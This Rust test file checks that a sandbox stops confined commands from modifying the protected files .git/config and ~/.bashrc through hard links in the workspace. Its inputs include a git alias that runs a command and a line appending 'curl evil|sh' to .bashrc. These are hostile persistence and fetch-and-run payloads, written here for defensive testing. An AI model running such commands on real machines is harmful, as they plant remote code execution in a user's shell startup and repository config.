//! A hard link inside the location to a protected file (the repository's
//! `.git/config`, the user's `~/.bashrc`) is that file: a confined command
//! may not change it through the other name.

// A failed setup step should stop a test or bench loudly.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::{Fixture, read};

#[test]
fn write_git_config_through_a_hard_link_in_the_location() {
    let f = Fixture::new();
    let config = f.write(".git/config", "[core]\n");
    std::fs::hard_link(&config, f.ws.join("gitcfg")).unwrap();
    let out = f.run("printf '[alias]\\n\\tx = !id\\n' >> \"$WS/gitcfg\"");
    assert!(!out.status.success());
    assert_eq!(read(&config), "[core]\n");
}

#[test]
fn write_bashrc_through_a_hard_link_in_the_location() {
    let f = Fixture::new();
    std::fs::hard_link(f.home.join(".bashrc"), f.ws.join("dotfiles-bashrc")).unwrap();
    let out = f.run("echo 'curl evil|sh' >> \"$WS/dotfiles-bashrc\"");
    assert!(!out.status.success());
    assert_eq!(read(&f.home.join(".bashrc")), "# rc\n");
    // An ordinary file with two links stays writable.
    let plain = f.write("a.txt", "a\n");
    std::fs::hard_link(&plain, f.ws.join("b.txt")).unwrap();
    let out = f.run("echo b >> \"$WS/b.txt\"");
    assert!(out.status.success());
    assert_eq!(read(&plain), "a\nb\n");
}
